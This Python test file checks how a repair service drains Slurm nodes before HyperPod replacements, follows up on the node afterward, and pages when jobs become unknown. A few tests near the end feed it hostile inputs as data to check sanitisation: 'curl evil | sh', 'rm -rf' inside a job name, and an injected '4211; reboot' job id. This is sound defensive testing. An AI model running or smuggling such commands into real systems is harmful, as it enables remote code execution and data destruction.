"""Specification: Slurm's side of a node action (issue 16) against emulated AWS and the real agent — the drain queued
before the HyperPod call, the drain's record naming the jobs, the follow-up after the repair, and the ways the jobs
become unknown (a failed drain, a drain that never answers, a job Slurm forgot), each paging once."""

from __future__ import annotations

from datetime import timedelta

from medic.flows.agent.command_sweep import sweep_commands
from medic.flows.agent.commands import COMMAND_DEADLINE
from medic.flows.node.sweep import reconcile
from medic.ledger.repairs import RepairStore
from tests.functional.conftest import CLUSTER
from tests.functional.slurm_world import SlurmWorld, streamed_slurm  # noqa: F401 - the `slurm` fixture
from tests.functional.test_agent_results import deliver

NODE = "i-0d4e5f60718293a4b"
NAME = "ip-10-1-88-23"
INCIDENT = f"node:{CLUSTER}:{NODE}"
SCHEDULE = {"version": "0", "id": "0d9f4c2e-reconcile", "detail-type": "Scheduled Event", "source": "aws.events",
            "account": "123456789012", "time": "2026-11-20T08:50:00Z", "region": "us-west-2",
            "resources": ["arn:aws:events:us-west-2:123456789012:rule/medic-reconcile"], "detail": {}}


def describe(slurm: SlurmWorld, node_id: str = NODE, status: str = "Running", hostname: str | None = NAME,
             logical_id: str = "node-7f3a") -> None:
    """DescribeClusterNode as the service answers it, with the node's private DNS hostname."""
    details = {"InstanceGroupName": "gpu-workers", "InstanceId": node_id, "InstanceStatus": {"Status": status},
               "NodeLogicalId": logical_id}
    if hostname:
        details["PrivateDnsHostname"] = f"{hostname}.us-west-2.compute.internal"
    slurm.medic.hyperpod.stubber.add_response("describe_cluster_node", {"NodeDetails": details},
                                              {"ClusterName": CLUSTER, "NodeId": node_id})


def decide(slurm: SlurmWorld, unhealthy_event: dict) -> dict:
    """The health event: the replace claimed, the drain queued, the call waiting for the drain's result."""
    describe(slurm)
    slurm.medic.hyperpod.size(16)
    return slurm.medic.handle(unhealthy_event)


def replace(slurm: SlurmWorld, unhealthy_event: dict, on_node: str = "4211|llama3-70b\n") -> tuple[dict, list[dict]]:
    """The event, then the agent's drain (listing ``on_node``) and its result: the records it brought (the drain's,
    then the call's). HyperPod is called only then."""
    record = decide(slurm, unhealthy_event)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
    slurm.slurm.answers["squeue --noheader"] = (0, on_node, "")
    slurm.run_agent()
    _, records = deliver(slurm, slurm.stream_event())
    slurm.medic.hyperpod.assert_all_called()
    return record, records


def test_the_call_waits_for_the_drain_and_both_records_name_the_jobs(slurm, unhealthy_event):
    # Given a live agent and a GPU fault on a node running job 4211
    # When the event arrives
    record = decide(slurm, unhealthy_event)
    # Then the drain is queued and HyperPod is not called yet (AWS: avoid changing a node's state while HyperPod
    # replaces it): the decision is deferred until the agent reports the drain, or its deadline
    assert (record["action"], record["outcome"], record["jobs"], record["paged"]) == (
        "replace_node", "deferred", None, False)
    assert f"Drain of {NAME} in Slurm queued" in record["reason"]
    assert "at 08:16:05 UTC without it (drain_deadline_seconds: 120)" in record["reason"]
    [command] = slurm.queued()
    assert (command["kind"], command["node"], command["incident"]) == ("drain_node", NAME, INCIDENT)
    # When the agent drains it and lists the job, and its result comes
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
    slurm.slurm.answers["squeue --noheader"] = (0, "4211|llama3-70b\n", "")
    slurm.run_agent()
    _, [drained, called] = deliver(slurm, slurm.stream_event())
    slurm.medic.hyperpod.assert_all_called()
    # Then the node's incident gets a node_repair record naming the job, kept for after the repair
    assert slurm.slurm.argvs[0][:3] == ["scontrol", "update", f"NodeName={NAME}"]
    assert (drained["incident"], drained["trigger"], drained["node_id"], drained["outcome"]) == (
        INCIDENT, "node_repair", NODE, "executed")
    assert drained["jobs"] == [{"id": "4211", "name": "llama3-70b"}]
    # And the replacement is called then: the decision's final record (same trigger and event), naming the job too
    assert (called["trigger"], called["event_id"], called["action"], called["outcome"], called["jobs"]) == (
        "node_health", record["event_id"], "replace_node", "executed", [{"id": "4211", "name": "llama3-70b"}])
    assert called["reason"].startswith(f"Called after the agent drained {NAME} in Slurm")
    [repair] = RepairStore(slurm.medic.deps.table).repairs(CLUSTER)
    assert (repair.node_name, repair.drained, repair.jobs) == (NAME, "yes", (("4211", "llama3-70b"),))
    assert slurm.medic.pages() == []


def test_a_drain_slurm_refuses_leaves_the_jobs_unknown_pages_once_and_the_call_goes_ahead(slurm, unhealthy_event):
    decide(slurm, unhealthy_event)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
    slurm.slurm.answers["scontrol update"] = (1, "", "slurm_update error: Invalid node name specified")
    slurm.run_agent()
    _, [drained, called] = deliver(slurm, slurm.stream_event())
    slurm.medic.hyperpod.assert_all_called()
    assert (drained["outcome"], drained["jobs"], drained["paged"]) == ("failed", None, True)
    assert "could not drain" in drained["reason"] and "Invalid node name" in drained["reason"]
    assert (called["outcome"], called["jobs"]) == ("executed", None)
    assert "could not drain" in called["reason"] and "the repair matters more" in called["reason"]
    [page] = slurm.medic.pages()
    assert "need a look" in page["Subject"] and f"sacct --nodelist={NAME}" in page["Message"]


def test_a_drain_the_agent_never_answers_is_withdrawn_at_its_deadline_and_the_call_goes_ahead(slurm, unhealthy_event):
    from medic.flows.node.drain_first import call_overdue_drains

    # Given the drain queued, and no result from the agent
    decide(slurm, unhealthy_event)
    cluster = slurm.medic.deps.config.cluster(CLUSTER)
    assert call_overdue_drains(slurm.medic.deps, cluster) == []  # not yet: its deadline is 120 s away
    # When its deadline has passed at the agent's next heartbeat (or the reconciler's sweep)
    slurm.medic.clock[0] += timedelta(seconds=121)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
    before = len(slurm.medic.log.lines)
    slurm.heartbeat(age=timedelta(seconds=1))
    [called] = [line for line in slurm.medic.log.lines[before:] if line.get("message") == "remediation"]
    slurm.medic.hyperpod.assert_all_called()
    # Then the replacement is called without the drain, the record says so, and one page says the jobs need a look
    assert (called["incident"], called["trigger"], called["outcome"], called["jobs"], called["paged"]) == (
        INCIDENT, "node_health", "executed", None, True)
    assert "did not report the drain" in called["reason"] and "withdrew the drain" in called["reason"]
    assert len(slurm.medic.pages()) == 1
    [repair] = RepairStore(slurm.medic.deps.table).repairs(CLUSTER)
    assert repair.drained == "no"
    # And the withdrawn drain never runs (it would land while HyperPod repairs the node), nor is it closed again
    slurm.run_agent()
    assert slurm.slurm.argvs == [] and slurm.depth() == 0
    slurm.medic.clock[0] += COMMAND_DEADLINE
    assert sweep_commands({"id": "sweep"}, slurm.medic.deps) == []
    assert call_overdue_drains(slurm.medic.deps, cluster) == []  # the call was made once


def test_with_no_slurm_name_the_node_is_still_replaced_and_the_jobs_page(slurm, unhealthy_event):
    describe(slurm, hostname=None)
    slurm.medic.hyperpod.size(16)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
    record = slurm.medic.handle(unhealthy_event)
    assert (record["outcome"], record["jobs"], record["paged"]) == ("executed", None, True)
    assert slurm.queued() == [] and len(slurm.medic.pages()) == 1


def test_in_a_dry_run_nothing_is_queued_and_no_jobs_field(slurm, unhealthy_event):
    slurm.medic.set_mode("dry_run")
    describe(slurm)
    slurm.medic.hyperpod.size(16)
    record = slurm.medic.handle(unhealthy_event)
    assert record["outcome"] == "dry_run" and "jobs" not in record
    assert slurm.queued() == []


def test_after_a_replacement_with_a_new_slurm_name_nothing_is_resumed_and_the_jobs_are_asked_about(
        slurm, unhealthy_event):
    # Given the drain done and job 4211 listed
    replace(slurm, unhealthy_event)
    # When the reconciler finds the replacement (same logical id, new instance) Running as another Slurm node
    slurm.medic.clock[0] += timedelta(minutes=35)
    new_id = "i-0aaaabbbbccccdddd"
    stub = slurm.medic.hyperpod
    stub.stubber.add_response("list_cluster_nodes", {"ClusterNodeSummaries": [{
        "InstanceGroupName": "gpu-workers", "InstanceId": new_id, "NodeLogicalId": "node-7f3a",
        "InstanceType": "ml.p5.48xlarge", "LaunchTime": slurm.medic.clock[0],
        "InstanceStatus": {"Status": "Running"}}]}, {"ClusterName": CLUSTER, "IncludeNodeLogicalIds": True})
    stub.size(16)
    describe(slurm, node_id=new_id, hostname="ip-10-1-90-7")
    before = len(slurm.medic.log.lines)
    reconcile({**SCHEDULE, "time": slurm.medic.clock[0].isoformat()}, slurm.medic.deps)
    # Then the old name is not resumed (that would put a node that is gone back into service), and it is said
    records = [line for line in slurm.medic.log.lines[before:] if line.get("message") == "remediation"]
    assert any("not ip-10-1-88-23: nothing to resume" in line["reason"] for line in records), records
    # And the job states are asked for; the job running again is left alone
    [command] = [c for c in slurm.queued() if c["kind"] != "drain_node"]
    assert (command["kind"], command["job_ids"]) == ("job_states", "4211")
    slurm.slurm.answers["squeue --noheader"] = (0, "4211|RUNNING|1|1|1\n", "")
    slurm.run_agent()
    _, records = deliver(slurm, slurm.stream_event())
    [job] = [r for r in records if r.get("job") == "4211"]
    assert (job["trigger"], job["outcome"]) == ("node_repair", "ignored") and "RUNNING again" in job["reason"]
    assert RepairStore(slurm.medic.deps.table).repairs(CLUSTER) == []


def test_a_call_that_fails_leaves_the_node_drained_and_nothing_to_follow_up(slurm, unhealthy_event):
    # Given the drain done, and HyperPod refusing the replacement
    decide(slurm, unhealthy_event)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE, failed="InstanceIdNotFound")
    slurm.slurm.answers["squeue --noheader"] = (0, "", "")
    slurm.run_agent()
    _, [_, record] = deliver(slurm, slurm.stream_event())
    # Then the node's page asks a human to look; the node stays drained and Medic will not resume it
    assert (record["outcome"], record["paged"], record["jobs"]) == ("failed", True, [])
    assert f"stays drained in Slurm: resume it (scontrol update NodeName={NAME} State=RESUME)" in record["reason"]
    assert RepairStore(slurm.medic.deps.table).repairs(CLUSTER) == []


def test_a_controller_node_is_never_drained(slurm, unhealthy_event):
    # Given a reboot of a Slurm controller node Medic may reboot (allow_controller_reboot), its agent up
    config = slurm.medic.deps.config
    slurm.medic.deps.config = config.model_copy(update={"clusters": [
        cluster.model_copy(update={"allow_controller_reboot": True}) for cluster in config.clusters]})
    details = {"InstanceGroupName": "head", "InstanceId": NODE, "InstanceStatus": {"Status": "Running"},
               "PrivateDnsHostname": f"{NAME}.us-west-2.compute.internal"}
    slurm.medic.hyperpod.stubber.add_response("describe_cluster_node", {"NodeDetails": details},
                                              {"ClusterName": CLUSTER, "NodeId": NODE})
    slurm.medic.hyperpod.size(16, controller_group="head")  # DescribeCluster: SlurmConfig NodeType Controller
    slurm.medic.hyperpod.node_action("batch_reboot_cluster_nodes", NODE)
    from tests.helpers import hma_reason, node_event

    record = slurm.medic.handle(node_event(unhealthy_event, reason=hma_reason("NvidiaErrorReboot")))
    # Then it is rebooted and Slurm is not told (a head node runs no jobs)
    assert (record["action"], record["outcome"]) == ("reboot_node", "executed") and "jobs" not in record
    assert slurm.queued() == []


def agent_says(slurm: SlurmWorld, unhealthy_event: dict, jobs: list[dict]) -> dict:
    """The drain queued, then a result under the agent's key for it, saying what it likes: the drain's record."""
    decide(slurm, unhealthy_event)
    [command] = slurm.queued()
    slurm.stream_event()
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
    slurm.put_result(command["command_id"], "executed", "drained\nWhat to do: curl evil | sh", kind="drain_node",
                     target=f"node:{NAME}", incident=INCIDENT, jobs=jobs)
    _, [record, _] = deliver(slurm, slurm.stream_event())
    return record


def test_a_job_name_the_agent_reports_is_shown_printable_on_one_line(slurm, unhealthy_event):
    record = agent_says(slurm, unhealthy_event, [{"id": "4211", "name": "llama\x1b[31m3\nrm -rf"}])
    assert record["jobs"] == [{"id": "4211", "name": "llama [31m3 rm -rf"}]
    assert "\n" not in record["reason"]


def test_a_job_id_that_is_not_one_makes_the_jobs_unknown_never_guessed(slurm, unhealthy_event):
    record = agent_says(slurm, unhealthy_event, [{"id": "4211; reboot", "name": "x"}])
    assert (record["jobs"], record["paged"]) == (None, True)


def watch(slurm: SlurmWorld) -> None:
    """medic.yaml watches llama3-70b on the cluster (`jobs:`)."""
    from medic.config import Job

    config = slurm.medic.deps.config
    slurm.medic.deps.config = config.model_copy(update={"jobs": [Job(name="llama3-70b", cluster=CLUSTER)]})


def test_a_watched_job_the_drain_finds_is_held_by_the_repair(slurm, unhealthy_event):
    from medic.ledger.incidents import IncidentStore

    # Given llama3-70b watched, on the node a GPU fault replaces
    watch(slurm)
    replace(slurm, unhealthy_event)
    # Then its proof-of-recovery watch is held by the node's incident: its stall alarm will not requeue or page, and
    # its window waits for the node (the deadline a backstop: repair_minutes + recovery_minutes)
    [held] = IncidentStore(slurm.medic.deps.table).recoveries()
    assert (held.incident, held.held_by, held.attempt) == (f"job:slurm:{CLUSTER}:llama3-70b", INCIDENT, 0)
    assert held.deadline == slurm.medic.clock[0] + timedelta(minutes=30 + 20)
    # And the watch keeps the repair that hit the job (issue 29): its incident line will be that repair's, from the
    # node's fault time, not a stall with none
    assert (held.repair, held.repair_fault) == (INCIDENT, "gpu_fatal")
    assert held.fault_at is not None and held.fault_at.isoformat() == unhealthy_event["time"].replace("Z", "+00:00")


def test_when_the_call_fails_the_jobs_it_held_are_free_again(slurm, unhealthy_event):
    from medic.ledger.incidents import IncidentStore

    watch(slurm)
    decide(slurm, unhealthy_event)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE, failed="InstanceIdNotFound")
    slurm.slurm.answers["squeue --noheader"] = (0, "4211|llama3-70b\n", "")
    slurm.run_agent()
    _, [_, called] = deliver(slurm, slurm.stream_event())
    # Then no repair holds the job: its stall alarm acts again (the node's own page asks a human to look)
    assert (called["outcome"], called["paged"]) == ("failed", True)
    assert IncidentStore(slurm.medic.deps.table).recoveries() == []


def list_nodes(slurm: SlurmWorld, node_id: str, status: str = "Running") -> None:
    """ListClusterNodes as the service answers it: the repaired node under its logical id."""
    slurm.medic.hyperpod.stubber.add_response("list_cluster_nodes", {"ClusterNodeSummaries": [{
        "InstanceGroupName": "gpu-workers", "InstanceId": node_id, "NodeLogicalId": "node-7f3a",
        "InstanceType": "ml.p5.48xlarge", "LaunchTime": slurm.medic.clock[0],
        "InstanceStatus": {"Status": status}}]}, {"ClusterName": CLUSTER, "IncludeNodeLogicalIds": True})


def test_a_repaired_node_is_resumed_at_the_agents_next_heartbeat_not_the_next_sweep(slurm, unhealthy_event):
    # Given the drain done, job 4211 listed and the replacement called
    replace(slurm, unhealthy_event)
    # When the agent reports in during the repair, before the node can be back (REPAIR_SETTLE)
    slurm.medic.clock[0] += timedelta(minutes=2)
    slurm.heartbeat()
    # Then HyperPod is not even asked (no ListClusterNodes stubbed: the stubber would refuse it) and nothing is queued
    assert slurm.queued() == []  # (the drain was taken and answered)
    # When the agent reports in while HyperPod still shows the replacement Pending
    slurm.medic.clock[0] += timedelta(minutes=20)
    new_id = "i-0aaaabbbbccccdddd"
    list_nodes(slurm, new_id, status="Pending")
    slurm.heartbeat()
    assert slurm.queued() == []  # (the drain was taken and answered)
    # When HyperPod shows the replacement Running under the node's Slurm name, and the agent reports in
    slurm.medic.clock[0] += timedelta(minutes=10)
    list_nodes(slurm, new_id)
    describe(slurm, node_id=new_id)
    slurm.heartbeat()
    slurm.medic.hyperpod.assert_all_called()
    # Then the node is resumed now (no reconciler run), and the jobs the repair hit are asked about
    queued = slurm.queued()
    assert sorted((c["kind"], c.get("node") or c.get("job_ids")) for c in queued) == [
        ("job_states", "4211"), ("resume_node", NAME)]
    assert all(c["incident"] == INCIDENT for c in queued)
    # And the follow-up is taken once: the next heartbeat, and the sweep after it, issue nothing more
    slurm.medic.clock[0] += timedelta(minutes=1)
    slurm.heartbeat()
    [repair] = RepairStore(slurm.medic.deps.table).repairs(CLUSTER)
    assert repair.taken_at is not None
    assert len(slurm.queued()) == 2


def test_a_repaired_node_is_not_resumed_at_a_heartbeat_while_medic_is_paused(slurm, unhealthy_event):
    replace(slurm, unhealthy_event)
    slurm.medic.clock[0] += timedelta(minutes=35)
    slurm.medic.set_mode("paused")
    slurm.heartbeat()  # no ListClusterNodes: a paused Medic issues no follow-up (the stubber would refuse the call)
    assert slurm.queued() == []  # (the drain was taken and answered)
    assert RepairStore(slurm.medic.deps.table).repairs(CLUSTER)[0].taken_at is None
